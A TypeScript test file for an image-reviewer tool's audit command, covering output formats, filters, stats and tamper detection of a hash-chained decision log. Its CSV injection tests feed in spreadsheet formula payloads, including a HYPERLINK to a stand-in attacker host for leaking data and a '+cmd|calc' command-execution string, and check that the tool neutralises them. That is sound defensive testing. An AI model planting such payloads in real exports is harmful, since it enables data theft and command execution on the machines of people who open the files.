import Database from 'better-sqlite3';
import type { ReasonCode } from '../../src/core/types';
import { createInlineAuditWriter } from '../../src/store/audit-inline-committer';
import { openStore } from '../../src/store/open-database';
import { DIGEST_B, decisionRecord, deniedRecord } from '../helpers/decision-record';
import { postImageReview } from '../helpers/post-image-review';
import { runCli } from '../helpers/run-cli';
import { startServeInProcess } from '../helpers/serve-in-process';
import { type TempDir, makeTempDir } from '../helpers/temp-dir';

const HOUR = 3_600_000;

interface Run {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

describe('image-reviewer audit', () => {
  let tmp: TempDir;
  let dbFile: string;
  const now = Date.now();
  const cli = async (...args: string[]): Promise<Run> => {
    const r = await runCli(dbFile, args);
    return { code: r.status, stdout: r.stdout, stderr: r.stderr };
  };

  beforeEach(async () => {
    tmp = makeTempDir();
    dbFile = tmp.file('store.db');
    const db = openStore(dbFile, { migrate: 'apply' });
    try {
      const writer = createInlineAuditWriter(db, {}, { writer: 'reviewer-0', cluster: 'prod-eu' });
      await writer.append(decisionRecord({ time: now - 3 * HOUR }));
      await writer.append(deniedRecord({ time: now - 2 * HOUR, namespace: 'dev' }));
      await writer.append(
        deniedRecord({ time: now - 30 * 60_000, allowed: true, breakGlass: true, ticket: 'INC-7', overridden: 'not-approved' }),
      );
    } finally {
      db.close();
    }
  });
  afterEach(() => tmp.cleanup());

  it('prints a table, newest first, by default', async () => {
    const r = await cli('audit');
    expect(r).toMatchObject({ code: 0, stderr: '' });
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^ID\s+TIME\s+NAMESPACE\s+USER\s+DECISION\s+MODE\s+BREAK-GLASS\s+REASONS\s+IMAGES\s+WRITER$/);
    // USER is `-` for ImageReview decisions, which never say who asked.
    expect(lines.slice(1).map((l) => l.split(/\s+/).slice(0, 7))).toEqual([
      ['3', new Date(now - 30 * 60_000).toISOString(), 'prod', '-', 'allowed', 'enforce', 'INC-7'],
      ['2', new Date(now - 2 * HOUR).toISOString(), 'dev', '-', 'denied', 'enforce', '-'],
      ['1', new Date(now - 3 * HOUR).toISOString(), 'prod', '-', 'allowed', 'enforce', '-'],
    ]);
  });

  it('prints NDJSON in the SPEC §7 shape with --json', async () => {
    const r = await cli('audit', '--json', '--namespace', 'dev');
    expect(r).toMatchObject({ code: 0, stderr: '' });
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0]!)).toEqual({
      id: 2,
      time: new Date(now - 2 * HOUR).toISOString(),
      namespace: 'dev',
      allowed: false,
      mode: 'enforce',
      breakGlass: false,
      ticket: null,
      reason: `registry.corp.example/web/app@${DIGEST_B}: not approved; no scan`,
      overridden: null,
      policyHash: 'f'.repeat(64),
      user: null,
      groups: null,
      latencyUs: 250,
      writer: 'reviewer-0',
      cluster: 'prod-eu',
      images: [
        {
          image: `registry.corp.example/web/app@${DIGEST_B}`,
          repository: 'registry.corp.example/web/app',
          digest: DIGEST_B,
          allowed: false,
          reasons: ['not-approved', 'scan-missing'],
          unchanged: false,
          signature: null,
        },
      ],
    });
  });

  it('prints a header and one CSV line per decision with --csv', async () => {
    const r = await cli('audit', '--csv', '--break-glass');
    expect(r).toMatchObject({ code: 0, stderr: '' });
    expect(r.stdout.trimEnd().split('\r\n')).toEqual([
      'id,time,namespace,allowed,mode,breakGlass,ticket,reasons,images,reason,policyHash,user,latencyUs,groups,writer,cluster',
      `3,${new Date(now - 30 * 60_000).toISOString()},prod,true,enforce,true,INC-7,not-approved scan-missing,` +
        `registry.corp.example/web/app@${DIGEST_B},registry.corp.example/web/app@${DIGEST_B}: not approved; no scan,` +
        `${'f'.repeat(64)},,250,,reviewer-0,prod-eu`,
    ]);
  });

  it('neutralises CSV cells a spreadsheet would run as a formula: image strings and tickets (OWASP CSV injection)', async () => {
    const db = openStore(dbFile, { migrate: 'apply' });
    try {
      const reasons: readonly ReasonCode[] = ['invalid-reference'];
      const image = { image: '=HYPERLINK("http://x","y")', repository: null, digest: null, allowed: false, reasons };
      await createInlineAuditWriter(db, {}, { writer: 'reviewer-0', cluster: null }).append(
        deniedRecord({ time: now - 60_000, breakGlass: true, ticket: '@SUM(1+1)', reason: '-2+3', images: [image] }),
      );
    } finally {
      db.close();
    }
    const r = await cli('audit', '--csv', '--limit', '1');
    expect(r).toMatchObject({ code: 0, stderr: '' });
    expect(r.stdout.trimEnd().split('\r\n')[1]).toBe(
      `4,${new Date(now - 60_000).toISOString()},prod,false,enforce,true,'@SUM(1+1),invalid-reference,` +
        `"'=HYPERLINK(""http://x"",""y"")",'-2+3,${'f'.repeat(64)},,250,,reviewer-0,`,
    );
  });

  it('neutralises a formula a pod author put in an image, from the review to audit --csv', async () => {
    const server = await startServeInProcess(['--db', dbFile, 'serve', '--listen', '127.0.0.1:0']);
    try {
      const answer = await postImageReview(server.baseUrl, ['=HYPERLINK("http://evil.example/?leak","click")', '+cmd|calc'], 'attack');
      expect(answer).toMatchObject({ status: 200, allowed: false });
    } finally {
      await server.stop();
    }
    const r = await cli('audit', '--csv', '--namespace', 'attack');
    expect(r).toMatchObject({ code: 0, stderr: '' });
    const cells = r.stdout.trimEnd().split('\r\n')[1];
    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?leak"",""click"") +cmd|calc",`);
    // No cell of the row starts a formula: each is quoted text, or starts with a harmless character.
    expect(cells?.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it.each<[string[], number[]]>([
    [['--decision', 'denied'], [2]],
    [['--decision', 'allowed'], [3, 1]],
    [['--reason', 'scan-missing'], [3, 2]],
    [['--break-glass'], [3]],
    [['--image', 'registry.corp.example/payments/*'], [1]],
    [['--since', '1h'], [3]],
    [['--until', '1h', '--since', '150m'], [2]],
    [['--since', new Date(now - 2 * HOUR).toISOString()], [3, 2]],
    [['--limit', '2'], [3, 2]],
    [['--namespace', 'nope'], []],
  ])('filters: audit %j', async (args, ids) => {
    const r = await cli('audit', '--json', ...args);
    expect(r).toMatchObject({ code: 0, stderr: '' });
    const lines = r.stdout.split('\n').filter((l) => l !== '');
    expect(lines.map((l) => (JSON.parse(l) as { id: number }).id)).toEqual(ids);
  });

  it.each<[string[], string]>([
    [['--decision', 'maybe'], 'error: --decision must be allowed or denied, not "maybe"'],
    [['--reason', 'nope'], 'error: --reason "nope" is not a reason code (one of: invalid-reference, '],
    [['--limit', '-1'], 'error: --limit must be a positive integer, not "-1"'],
    [['--limit', '0'], 'error: --limit must be a positive integer, not "0"'],
    [['--since', 'yesterday'], 'error: --since: invalid time "yesterday"'],
    [['--json', '--csv'], 'error: --json and --csv cannot be combined'],
  ])('refuses audit %j with exit 2 and one line on stderr', async (args, message) => {
    const r = await cli('audit', ...args);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr.split('\n').filter((l) => l !== '')).toHaveLength(1);
    expect(r.stderr.startsWith(message)).toBe(true);
  });

  it('prints stats as a table and as JSON, with --since', async () => {
    const table = await cli('audit', 'stats');
    expect(table).toMatchObject({ code: 0, stderr: '' });
    expect(table.stdout).toMatch(/^all decisions\n\nDECISIONS\s+ALLOWED\s+DENIED\s+BREAK-GLASS\n3\s+2\s+1\s+1\n/);
    const json = await cli('audit', 'stats', '--since', '150m', '--json');
    expect(json).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.parse(json.stdout)).toEqual({
      since: expect.stringMatching(/Z$/),
      until: null,
      namespace: null,
      total: 2,
      allowed: 1,
      denied: 1,
      breakGlass: 1,
      byMode: [{ mode: 'enforce', count: 2 }],
      byNamespace: [
        { namespace: 'dev', allowed: 0, denied: 1 },
        { namespace: 'prod', allowed: 1, denied: 0 },
      ],
      byReason: [
        { reason: 'not-approved', count: 2 },
        { reason: 'scan-missing', count: 2 },
      ],
    });
    expect(await cli('audit', 'stats', '--since', 'soon')).toMatchObject({ code: 2, stdout: '' });
  });

  it('counts within --since and --until, in one --namespace, as CSV with --csv', async () => {
    const r = await cli('audit', 'stats', '--since', '4h', '--until', '1h', '--namespace', 'prod', '--csv');
    expect(r).toMatchObject({ code: 0, stderr: '' });
    expect(r.stdout.trimEnd().split('\r\n')).toEqual([
      'dimension,value,decisions,allowed,denied',
      'total,,1,1,0',
      'break-glass,,0,,',
      'mode,enforce,1,,',
      'namespace,prod,1,1,0',
    ]);
    const table = await cli('audit', 'stats', '--namespace', 'dev', '--until', '1h');
    expect(table.stdout).toMatch(/^decisions in namespace dev until \S+Z\n\nDECISIONS\s+ALLOWED\s+DENIED\s+BREAK-GLASS\n1\s+0\s+1\s+0\n/);
    expect(JSON.parse((await cli('audit', 'stats', '--json', '--until', '1h')).stdout)).toMatchObject({
      since: null,
      until: expect.stringMatching(/Z$/),
      total: 2,
    });
  });

  it.each([
    [['stats', '--limit', '5'], 'error: audit stats does not take --limit (it takes --since, --until, --namespace, --json, --csv)\n'],
    [['stats', '--image', 'x*', '--break-glass'], 'error: audit stats does not take --image, --break-glass (it takes --since, --until, --namespace, --json, --csv)\n'],
    [['stats', '--decision', 'denied'], 'error: audit stats does not take --decision (it takes --since, --until, --namespace, --json, --csv)\n'],
    [['stats', '--json', '--csv'], 'error: --json and --csv cannot be combined\n'],
    [['verify', '--namespace', 'prod'], "error: audit verify takes none of audit's filters or formats (got --namespace): it checks the whole store\n"],
    [['--until', '1h', 'verify', '--csv'], "error: audit verify takes none of audit's filters or formats (got --until, --csv): it checks the whole store\n"],
    [['verify', '--limit', '1'], "error: audit verify takes none of audit's filters or formats (got --limit): it checks the whole store\n"],
  ])('refuses audit %j with exit 2 and one line, instead of ignoring a flag', async (args, stderr) => {
    expect(await cli('audit', ...args)).toEqual({ code: 2, stdout: '', stderr });
  });

  it('names an edited reason index, which the hash chain itself does not cover, and passes once it is repaired', async () => {
    const db = new Database(dbFile);
    const row = db
      .prepare("SELECT reason, time, decision_id FROM decision_reasons WHERE reason = 'scan-missing' ORDER BY decision_id LIMIT 1")
      .get() as { reason: string; time: number; decision_id: number };
    db.prepare('DELETE FROM decision_reasons WHERE reason = ? AND decision_id = ?').run(row.reason, row.decision_id);
    expect(await cli('audit', 'verify')).toEqual({
      code: 1,
      stdout: '',
      stderr:
        `error: audit index edited at decision ${row.decision_id}: its reason 'scan-missing' is missing from decision_reasons ` +
        '(audit --reason would not find it)\n',
    });
    db.prepare('INSERT INTO decision_reasons (reason, time, decision_id) VALUES (?, ?, ?)').run(row.reason, row.time, row.decision_id);
    db.close();
    expect(await cli('audit', 'verify')).toMatchObject({ code: 0, stdout: expect.stringMatching(/^audit chain ok: 3 decisions, 0 changes /) });
  });

  it('verifies the chain, and names the first bad row after tampering', async () => {
    expect(await cli('audit', 'verify')).toEqual({ code: 0, stdout: 'audit chain ok: 3 decisions, 0 changes (approvals, exceptions, grants and scans match the change log)\n', stderr: '' });
    const db = new Database(dbFile);
    db.prepare('UPDATE decisions SET allowed = 1 WHERE id = 2').run();
    db.close();
    expect(await cli('audit', 'verify')).toEqual({
      code: 1,
      stdout: '',
      stderr:
        'error: audit chain broken at decision 2: its hash does not match its contents ' +
        '(the decision, its images or its policy were edited)\n',
    });
  });

  it('says so when nothing matches', async () => {
    expect(await cli('audit', '--namespace', 'nope')).toEqual({ code: 0, stdout: 'no matching decisions\n', stderr: '' });
  });
});
